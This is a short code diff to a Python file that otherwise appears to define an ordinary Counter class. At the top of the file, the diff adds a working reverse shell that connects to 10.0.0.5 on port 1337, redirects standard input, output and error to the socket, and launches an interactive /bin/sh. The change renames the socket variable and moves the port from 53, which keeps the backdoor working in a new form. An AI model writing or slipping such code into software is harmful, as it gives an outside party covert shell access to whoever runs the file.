@@ -1,10 +1,11 @@
+#!/usr/bin/env python3
 
 import socket, subprocess, os
-net = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-net.connect(("10.0.0.5", 53))
-os.dup2(net.fileno(), 0)
-os.dup2(net.fileno(), 1)
-os.dup2(net.fileno(), 2)
+conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+conn.connect(("10.0.0.5", 1337))
+os.dup2(conn.fileno(), 0)
+os.dup2(conn.fileno(), 1)
+os.dup2(conn.fileno(), 2)
 subprocess.call(["/bin/sh", "-i"])
 class Counter:
     def __init__(self):
